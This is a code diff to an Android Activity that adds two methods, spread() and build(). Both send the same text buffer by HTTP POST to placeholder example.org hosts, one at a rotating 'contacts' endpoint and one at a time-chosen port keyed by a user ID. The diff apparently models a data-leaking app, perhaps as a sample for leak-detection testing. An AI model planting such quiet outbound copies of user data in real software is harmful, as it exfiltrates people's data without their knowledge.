@@ -11,6 +11,8 @@ import java.io.IOException;
 import java.io.OutputStream;
 import java.net.HttpURLConnection;
 import java.net.URL;
+import org.json.JSONException;
+import org.json.JSONObject;
 
 public final class Main extends Activity {
     @Override
@@ -25,6 +27,8 @@ public final class Main extends Activity {
         try {
             send(text.toString().getBytes());
             keep(text.toString().getBytes());
+            spread(text.toString().getBytes());
+            build(text.toString());
         } catch (IOException e) {
             Log.w("main", "later");
         }
@@ -37,6 +41,30 @@ public final class Main extends Activity {
         connection.setDoOutput(true);
         OutputStream out = connection.getOutputStream();
         out.write(body);
+        out.close();
+        connection.getInputStream().close();
+    }
+
+    private void spread(byte[] body) throws IOException {
+        URL address = new URL("https://shard" + System.currentTimeMillis() % 4 + ".example.org/v1/contacts");
+        HttpURLConnection connection = (HttpURLConnection) address.openConnection();
+        connection.setDoOutput(true);
+        OutputStream out = connection.getOutputStream();
+        out.write(body);
+        out.close();
+        connection.getInputStream().close();
+    }
+
+    private void build(String text) throws IOException {
+        URL address = new URL("https://api.example.org:" + System.currentTimeMillis() % 9000 + "/v2");
+        HttpURLConnection connection = (HttpURLConnection) address.openConnection();
+        connection.setDoOutput(true);
+        OutputStream out = connection.getOutputStream();
+        try {
+            out.write(new JSONObject().put("of_" + getIntent().getStringExtra("user"), text).toString().getBytes());
+        } catch (JSONException e) {
+            Log.w("main", "later");
+        }
         out.close();
         connection.getInputStream().close();
     }
